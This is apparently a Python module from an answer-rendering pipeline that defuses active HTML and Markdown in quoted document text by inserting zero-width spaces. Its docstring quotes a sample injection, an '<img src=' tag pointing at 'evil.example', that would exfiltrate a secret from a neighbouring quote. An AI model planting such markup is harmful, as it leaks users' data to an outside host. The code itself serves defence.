"""Quoted document text made inert for a client that renders an answer as HTML or Markdown, and left as it
reads for everybody else.

An extractive answer is document text, shown as text: ``<new-branch>`` stays
``<new-branch>`` and an address stays an address (the link policy guards what
a language model writes). But quotes of several documents are joined into
one answer, and a client that renders it as markup would let one document's
markup reach into another's text — ``<img src="https://evil.example/?d=`` at
the end of a planted quote, a readable secret in the next quote, and the
browser fetches it. So, without HTML-escaping anything, a zero-width space
(U+200B) goes where a renderer would start something active, which makes it
text to every HTML and Markdown parser:

- after ``<`` of a tag that could act: a known active element (``img``,
  ``a``, ``iframe``, ``script``, ``svg``, ``form``, …), or any tag with an
  attribute, a quote or a line break before its ``>``, or none within reach;
  and of ``<!`` and ``<?``;
- between ``!`` and ``[`` of a Markdown image;
- before the colon of a ``javascript:``, ``vbscript:``, ``data:`` or
  ``blob:`` address.

A placeholder such as ``<new-branch>``, ``<commit>`` or ``<path>`` has none of
these and is left as it is.
"""

from __future__ import annotations

import re

ZERO_WIDTH_SPACE = "\u200b"
#: Elements that fetch, run, navigate or take input when rendered.
ACTIVE_ELEMENTS = frozenset(
    """
    a applet area audio base basefont bgsound body button canvas embed form frame frameset head html iframe
    image img input isindex keygen link math meta meta noscript object option picture portal script select source
    style svg template textarea track video xml xmp
    """.split()  # noqa: SIM905 - a word list reads better as text
)
#: How far a tag's ``>`` is looked for.
_REACH = 300
_TAG = re.compile(r"<(/?)([A-Za-z][\w:-]{0,63})|<[!?]")
_IMAGE = re.compile(r"!(?=\[)")
_SCRIPT_SCHEME = re.compile(r"(?i)\b(?:javascript|vbscript|data|blob)(?=:\S)")


def inert_quotes(text: str) -> str:
    """``text`` with a zero-width space wherever an HTML or Markdown renderer would start something active
    (see the module); every other character as it was."""
    out: list[str] = []
    last = 0
    for match in _TAG.finditer(text):
        if _active(text, match):
            out.append(text[last : match.start() + 1])
            out.append(ZERO_WIDTH_SPACE)
            last = match.start() + 1
    out.append(text[last:])
    inert = "".join(out)
    inert = _IMAGE.sub("!" + ZERO_WIDTH_SPACE, inert)
    return _SCRIPT_SCHEME.sub(lambda m: m.group() + ZERO_WIDTH_SPACE, inert)


def _active(text: str, match: re.Match[str]) -> bool:
    name = match.group(2)
    if name is None or name.casefold() in ACTIVE_ELEMENTS:
        return True  # "<!", "<?" or an active element
    body_end = text.find(">", match.end(), match.end() + _REACH)
    if body_end < 0:
        return True  # no end in reach: whatever follows could be its attributes
    body = text[match.end() : body_end]
    return any(c in body for c in "=\"'\n`")
